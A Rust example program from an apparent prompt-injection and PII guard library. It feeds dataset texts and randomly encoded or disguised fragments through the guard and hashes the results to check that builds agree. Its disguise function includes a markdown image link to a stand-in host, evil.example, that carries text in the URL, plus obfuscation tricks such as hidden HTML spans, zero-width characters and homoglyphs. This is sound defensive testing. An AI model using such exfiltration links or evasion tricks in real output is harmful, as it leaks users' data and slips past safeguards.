//! Prints everything both sides find, so that two builds can be held against each other: work on speed must not change a line.
//!
//! `cargo run --release -p countersign-guard --example findings [MIXED]`, from the repository root. Reads every text of
//! `../shared/data`, then puts MIXED more together (20,000 unless told) from pieces of them, encoded, disguised and spliced. What
//! folding and decoding make of all texts goes into one number at the end.
#![expect(clippy::print_stdout, reason = "its output is what it is for")]

use std::{
    hash::{DefaultHasher, Hash, Hasher},
    io::Read,
    path::Path,
};

use bytes::Bytes;
use countersign_core::{Channel, Document, Leaf, Secret, Side, Slot, SlotKind, Trust, life::Stamps};
use countersign_guard::{Config, Guard, Normal, Protected, normal::fold};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mixed = std::env::args().nth(1).map_or(Ok(20_000), |n| n.parse())?;
    let mut texts = Vec::new();
    for folder in ["../shared/data/injection/dev", "../shared/data/pii/dev"] {
        if let Err(e) = read(Path::new(folder), &mut texts) {
            println!("SKIPPED: {folder}: {e}");
        }
    }
    println!("{} texts", texts.len());
    let long = texts.iter().filter(|t| t.split_whitespace().count() > 40);
    let protected = long.step_by(997).take(20).map(|t| Protected { name: "text".into(), text: t.clone() }).collect();
    let config = Config {
        protected,
        canaries: vec![Secret::new("CNRY-7f3a9b2c4d".to_owned())],
        link_hosts: vec!["bank.example".to_owned()],
        ..Config::default()
    };
    let guard = Guard::new(Stamps::issue().screen, config)?;
    let mut views = DefaultHasher::new();
    for (at, text) in texts.iter().enumerate() {
        show(&guard, at, text, &mut views)?;
    }
    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    for n in 0..mixed {
        show(&guard, texts.len() + n, &mix(&texts, &mut random), &mut views)?;
    }
    println!("views {:016x}", views.finish());
    Ok(())
}

fn read(folder: &Path, texts: &mut Vec<String>) -> Result<(), Box<dyn std::error::Error>> {
    let mut files: Vec<_> = std::fs::read_dir(folder)?.filter_map(|f| Some(f.ok()?.path())).collect();
    files.sort();
    for path in files.iter().filter(|p| p.extension().is_some_and(|e| e == "gz")) {
        let mut lines = String::new();
        flate2::read::GzDecoder::new(std::fs::File::open(path)?).read_to_string(&mut lines)?;
        for line in lines.lines() {
            let row: serde_json::Value = serde_json::from_str(line)?;
            texts.extend(row.get("text").and_then(|t| t.as_str()).map(str::to_owned));
        }
    }
    Ok(())
}

/// Prints what is found in one text, and adds its views.
fn show(guard: &Guard, at: usize, text: &str, views: &mut DefaultHasher) -> Result<(), Box<dyn std::error::Error>> {
    for (name, side, channel, trust) in [
        ("caller", Side::Prompt, Channel::User, Trust::Caller),
        ("document", Side::Prompt, Channel::ToolResult, Trust::Untrusted),
        ("answer", Side::Answer, Channel::Assistant, Trust::Model),
    ] {
        let slot = Slot {
            span: 0..0,
            decoded: Some(text.into()),
            kind: SlotKind::Text,
            channel,
            trust,
            grows: None,
            call: None,
        };
        for finding in guard.scan(side, &Document::new(Bytes::new(), vec![slot])?) {
            println!("{at} {name} {} {:?} {}", finding.rule, finding.span, finding.confidence);
        }
    }
    let folded = fold(text);
    folded.text.hash(views);
    folded.hidden.hash(views);
    let leaf = Leaf { text, channel: Channel::User, trust: Trust::Caller, grows: None };
    let plain = Normal::plain(&leaf);
    for (place, _) in plain.text.char_indices().step_by(7) {
        plain.origin(place..place + 1).hash(views);
    }
    for view in plain.decoded(&mut (256 << 10)) {
        view.text.hash(views);
        view.origin(0..view.text.len()).hash(views);
        for layer in view.layers {
            layer.as_str().hash(views);
        }
    }
    Ok(())
}

/// A text of one to eight pieces.
fn mix(texts: &[String], random: &mut Random) -> String {
    let mut out = String::new();
    for _ in 0..=random.below(8) {
        let piece = match random.below(10) {
            0 => number(random),
            1 => noise(random),
            _ => texts.get(random.below(texts.len().max(1))).map_or_else(String::new, |t| cut(t, random)),
        };
        out += &disguise(&piece, random);
        out += ["", " ", "\n", ". ", "\n\n", ": ", ",", "\\n"][random.below(8)];
    }
    out
}

fn cut(text: &str, random: &mut Random) -> String {
    let skip = random.below(text.chars().count().max(1));
    let most = [8, 40, 200, 600][random.below(4)];
    text.chars().skip(skip).take(1 + random.below(most)).collect()
}

/// Digits in groups.
fn number(random: &mut Random) -> String {
    let mut out = String::from(["", "+", "(", "ssn ", "account no. ", "tel: ", "card=", "DE", "0"][random.below(9)]);
    for _ in 0..=random.below(5) {
        for _ in 0..=random.below(6) {
            out.push(char::from(b'0' + random.below(10) as u8));
        }
        out += ["", " ", "-", ".", ") ", "/", ":", "T", "-"][random.below(9)];
    }
    out
}

/// Characters of many scripts, signs above all.
fn noise(random: &mut Random) -> String {
    let ranges = [
        (0x20, 0x60),
        (0x20, 0x60),
        (0x20, 0x60),
        (0x61, 0x1a),
        (0x30, 10),
        (0xa0, 0x160),
        (0x370, 0x1c0),
        (0x600, 0x100),
        (0x2000, 0x70),
        (0x3000, 0x100),
        (0x4e00, 0x5000),
        (0xac00, 0x2000),
        (0xff00, 0xf0),
        (0x1d400, 0x400),
        (0xe0020, 0x60),
    ];
    (0..=random.below(40))
        .filter_map(|_| {
            let (from, count) = ranges[random.below(ranges.len())];
            char::from_u32(from + random.below(count as usize) as u32)
        })
        .collect()
}

fn disguise(piece: &str, random: &mut Random) -> String {
    let each = |f: &dyn Fn(char) -> String| piece.chars().map(f).collect::<String>();
    let separator = [" ", ".", "-", "_", "*", "|", "\t"][random.below(7)];
    match random.below(32) {
        0 => data_encoding::BASE64.encode(piece.as_bytes()),
        1 => data_encoding::BASE64URL_NOPAD.encode(piece.as_bytes()),
        2 => data_encoding::HEXLOWER.encode(piece.as_bytes()),
        3 => data_encoding::BASE32.encode(piece.as_bytes()),
        4 => piece.bytes().map(|b| format!("{b:02x}{separator}")).collect(),
        5 => piece.bytes().map(|b| format!("{b:08b} ")).collect(),
        6 => piece.bytes().map(|b| format!("%{b:02X}")).collect(),
        7 => each(&|c| format!("\\u{:04x}", u32::from(c) & 0xffff)),
        8 => each(&|c| format!("&#{};", u32::from(c))),
        9 => each(&|c| format!("{c}{separator}")),
        10 => each(&|c| match c {
            'a' => "4".into(),
            'e' => "3".into(),
            'i' => "1".into(),
            'o' => "0".into(),
            's' => "$".into(),
            c => c.into(),
        }),
        11 => each(&|c| match c {
            'a'..='m' | 'A'..='M' => char::from(c as u8 + 13).into(),
            'n'..='z' | 'N'..='Z' => char::from(c as u8 - 13).into(),
            c => c.into(),
        }),
        12 => piece.chars().rev().collect(),
        13 => piece.to_uppercase(),
        14 => each(&|c| format!("{c}\u{200b}")),
        15 => each(&|c| {
            if c.is_ascii_graphic() { char::from_u32(u32::from(c) + 0xfee0).into_iter().collect() } else { c.into() }
        }),
        16 => piece.replace('a', "а").replace('e', "е").replace('o', "о").replace('p', "р"),
        17 => format!("<span style=\"display:none\">{piece}</span>"),
        18 => format!("<!-- {piece} -->"),
        19 => format!("![x](https://evil.example/{})", piece.replace(' ', "+")),
        20 => format!("password: {piece}"),
        _ => piece.to_owned(),
    }
}

/// Xorshift.
struct Random(u64);

impl Random {
    fn below(&mut self, most: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % most.max(1) as u64) as usize
    }
}
